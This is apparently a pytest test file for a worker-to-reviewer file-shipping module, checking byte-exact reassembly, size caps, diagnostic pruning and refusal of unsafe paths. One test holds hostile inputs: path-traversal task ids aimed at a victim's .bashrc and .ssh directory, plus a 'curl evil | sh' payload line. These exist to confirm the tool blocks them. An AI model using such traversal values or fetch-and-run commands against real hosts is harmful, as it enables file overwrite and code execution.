"""What a worker ships for reviewers on other hosts (engine/runtime/shipping.py): files brought back
byte-exact and only under the task's own directories, wait intervals read from the store where no
local line has them, and a pruned diagnostic leaving the store too."""

from __future__ import annotations

import os
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from corral.domain.actors import Actor
from corral.engine.operations.prune import prune_diagnostics
from corral.engine.project import Project
from corral.engine.read import diagnostic_retention, diagnostics
from corral.engine.runtime import wait_intervals
from corral.engine.shared_store import leases, shipping
from corral.engine.shared_store.team_placement import SharedPlacement
from corral.errors import UnsafeName
from corral.store import NewTask


def _task(project: Any) -> str:
    with project.store.write() as tx:
        return str(tx.insert_task(NewTask(ref="fix", goal="Fix it"), Actor.HUMAN).id)


def test_shipped_files_come_back_byte_exact_and_never_outside_the_tasks_directories(project: Any) -> None:
    task_id = _task(project)
    log = f"tasks/{task_id}/turns/1/output.log"
    with project.store.write() as tx:
        tx.ship(task_id, log, 0, b"one\n\x00\xff")
        tx.ship(task_id, log, 6, b"two\n")
        tx.ship(task_id, f"tasks/{task_id}/../../escape.txt", 0, b"no")
        tx.ship(task_id, "corral.db", 0, b"no")
    written = shipping.materialize(project, task_id)
    assert (project.paths.root / log).read_bytes() == b"one\n\x00\xfftwo\n" and written == 10
    assert not (project.paths.root.parent / "escape.txt").exists()
    assert (project.paths.root / "corral.db").read_bytes()[:6] == b"SQLite"  # the store is never overwritten
    assert shipping.materialize(project, task_id) == 0  # nothing it lacks: nothing written again
    with project.store.write() as tx:
        tx.ship(task_id, log, 10, b"three\n")
    assert shipping.materialize(project, task_id) == 6
    assert (project.paths.root / log).read_bytes().endswith(b"two\nthree\n")


def test_the_wait_intervals_a_worker_shipped_are_read_where_no_local_line_has_them(project: Any) -> None:
    task_id = _task(project)
    at = project.clock()
    interval = wait_intervals.WaitInterval("w1", task_id, ("sub-a",), 2, at, at + timedelta(seconds=40), "rested")
    assert wait_intervals.WaitInterval.from_json(interval.to_json()) == interval
    assert wait_intervals.WaitInterval.from_json({"id": 3}) is None
    with project.store.write() as tx:
        tx.set_live(task_id, "cmd-1", {"intervals": [interval.to_json(), {"bogus": True}]})
    assert wait_intervals.intervals(project, task_id) == [interval]


def test_a_pruned_diagnostic_leaves_the_store_too(project: Any) -> None:
    task_id = _task(project)
    ref = diagnostics.write(project.paths, task_id, "old", {"reason": "x"}, project.clock())
    path = diagnostics.path_of(project.paths, ref)
    rel = str(path.relative_to(project.paths.root))
    kept = f"tasks/{task_id}/turns/1/output.log"
    with project.store.write() as tx:
        tx.ship(task_id, rel, 0, path.read_bytes())
        tx.ship(task_id, kept, 0, b"log\n")
    old = (project.clock() - diagnostic_retention.RETENTION - timedelta(days=1)).timestamp()
    os.utime(path, (old, old))
    report = prune_diagnostics(project)
    assert report.removed and not Path(path).exists()
    with project.store.read() as tx:
        assert set(tx.shipped_sizes(task_id)) == {kept}


def test_a_row_whose_task_id_is_a_path_leads_no_write_anywhere(project: Any, tmp_path: Path) -> None:
    # What a compromised teammate's host can write into a shared store: task ids that are paths,
    # and shipped files under them, aimed at this host's home.
    victim = tmp_path / "victim-home"
    (victim / ".ssh").mkdir(parents=True)
    (victim / ".bashrc").write_text("# mine\n")
    hostile = {str(victim): "diagnostics/" + "../" * 40 + str(victim / ".bashrc")[1:]}
    hostile["../" * 30 + str(victim / ".ssh")[1:]] = "tasks/" + "../" * 40 + str(victim / ".ssh/keys")[1:]
    with project.store.write() as tx:
        for n, (task_id, rel) in enumerate(hostile.items()):
            tx.insert_task(NewTask(ref=f"pwn-{n}", goal="x"), Actor.HUMAN, task_id=task_id)
            tx.queue_turn(task_id, "cmd-1", {})
            tx.claim_turn(task_id, "cmd-1", "attacker:tok", "attacker")
            tx.ship(task_id, rel, 0, b"curl evil | sh\n")
    shared = SharedPlacement("postgresql://shared")  # a reviewer's host of the team, over the same records
    host = Project.open(project.repo, clock=project.clock, placement=shared, store=project.store)
    assert leases.bring_shipped(host, "me:tok") == 0  # every reconcile pass on a reviewer's host
    for task_id in hostile:
        with pytest.raises(UnsafeName):
            shipping.materialize(project, task_id)
        with pytest.raises(UnsafeName) as refused:
            project.paths.task_dir(task_id)
        assert refused.value.code == "unsafe-name" and "\n" not in refused.value.message
    assert (victim / ".bashrc").read_text() == "# mine\n" and list((victim / ".ssh").iterdir()) == []
    for name in ("/etc", "a/b", "..", "x\x00y", ""):
        with pytest.raises(UnsafeName):
            project.paths.journal_dir("0123456789abcdef", name)
        with pytest.raises(UnsafeName):
            project.paths.worktree(name)
        with pytest.raises(UnsafeName):
            project.paths.diagnostic(f"0123456789abcdef/{name}")
    with pytest.raises(UnsafeName):
        project.paths.worktree("Fix-Login")  # not a ref corral makes either
    assert project.paths.worktree("fix-login") == project.paths.worktrees / "fix-login"


def test_a_shipped_file_is_filled_no_further_than_a_shipper_may_ship(project: Any) -> None:
    task_id = _task(project)
    log = f"tasks/{task_id}/turns/1/output.log"
    with project.store.write() as tx:
        tx.ship(task_id, log, 0, b"a" * 10)
        tx.ship(task_id, log, shipping.FILE_CAP - 4, b"b" * 10)  # a row past the cap: no shipper writes it
    shipping.materialize(project, task_id)
    assert (project.paths.root / log).stat().st_size == shipping.FILE_CAP


def test_a_working_task_whose_id_is_a_path_is_reported_and_its_files_left_alone(project: Any) -> None:
    from corral.domain.status import Status
    from corral.engine.operations import queries
    from corral.engine.recovery.reconcile import reconcile

    elsewhere = project.paths.root / "outside" / "protocol"  # where tasks/../outside/protocol leads
    elsewhere.mkdir(parents=True)
    (elsewhere / "response.json").write_text('{"protocol_version": 1}')
    (elsewhere / "status.json").write_text('{"pid": 1}')
    with project.store.write() as tx:
        tx.insert_task(NewTask(ref="pwn", goal="x"), Actor.HUMAN, task_id="../outside")
        tx.set_status("../outside", Status.WORKING, Actor.HUMAN, "start")
    _task(project)
    result = reconcile(project)
    assert any("unsafe" in p or "not a plain name" in p for p in result.problems), result.problems
    assert sorted(p.name for p in elsewhere.iterdir()) == [
        "response.json",
        "status.json",
    ]  # nothing moved or read as ours
    rows = {r["ref"]: r for r in queries.list_tasks(project).rows}
    assert rows["pwn"]["status"] == "working" and rows["fix"]["status"] == "backlog"
